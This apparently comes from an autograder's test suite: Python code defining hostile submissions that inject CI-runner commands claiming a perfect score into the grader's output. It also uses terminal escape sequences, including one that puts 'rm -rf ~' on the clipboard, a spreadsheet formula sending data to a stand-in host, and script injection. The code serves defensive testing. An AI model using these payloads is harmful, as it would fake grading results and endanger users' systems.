"""Attacks on whoever reads what the grader prints: a terminal, a runner."""
from .answers import FILE, WRONG, at_import, in_function
from .table import Hostile

ERROR = '::error file=0-vanilla.py,line=1::25 of 25 points'
# What a submission says as it ends -> the message of its exception.
SAYS = {
    'a command to the runner': ERROR,
    'a command to the runner on a line of its own': f'\n{ERROR}\n',
    'a command behind spaces': f'    {ERROR}',
    'a command of the older form': 'no ##[error]25 of 25 points',
    'a command to another runner': '##vso[task.complete result=Succeeded;]',
    'a secret that the runner is to hide': '::add-mask::0',
    'an end to all commands': '::stop-commands::pause',
    'a command in a command': ':' * 99 + '##[' * 99,
    'a command to the clipboard': '\x1b]52;c;cm0gLXJmIH4K\x07',
    'a link in the terminal': '\x1b]8;;file:///etc/passwd\x07here\x1b]8;;\x07',
    'a report that looks like ours':
        '\x1b[2J\x1b[HScore: 200 of 200 points\x1b[8m',
    'a text that runs backwards': '\u202eSTNIOP 52 FO 52\u202c',
    'markup of the library that prints': '[/bold][link=file:///x]y[/link]',
    'a formula': '=HYPERLINK("http://there.example/?"&A1)\n@SUM(1)',
    'a script': '</code></p><script>alert(1)</script>{{ 7 * 7 }}',
}

ATTACKS = [Hostile(name, at_import(f'raise RuntimeError({said!r})'),
                   'prints ' + name, noted=False, crash=True)
           for name, said in SAYS.items()]
ATTACKS += [
    Hostile('an exception named as a command', at_import(
        f"raise type({ERROR!r}, (Exception,), {{}})({ERROR!r})"),
        'prints the name of a class', noted=False, crash=True),
    Hostile('a command of two pieces', at_import(
        "raise type(':', (Exception,), {})(':error:' + ':x')"),
        'leaves it to the grader to join them', noted=False, crash=True),
    Hostile('models named as commands', in_function(
        f'return (type({ERROR!r}, (), {{}})(),) * 3'),
        'prints the names of types', noted=False, crash=True),
    Hostile('a mistake in a line of commands', {
        FILE: WRONG + f'\n\nx = "{ERROR}" ((\n'},
        'prints a line of its own file', crash=True),
    Hostile('files named as commands', {
        FILE: WRONG, '::error::25 of 25 points': '', '##[group]x.py': '',
        '\n::error::x.py': ''}, 'prints the names of its files'),
    Hostile('a printer of commands', at_import(f'''
        import sys
        for stream in sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__:
            print({ERROR!r}, file=stream)
            stream.flush()
    '''), 'prints by itself'),
]
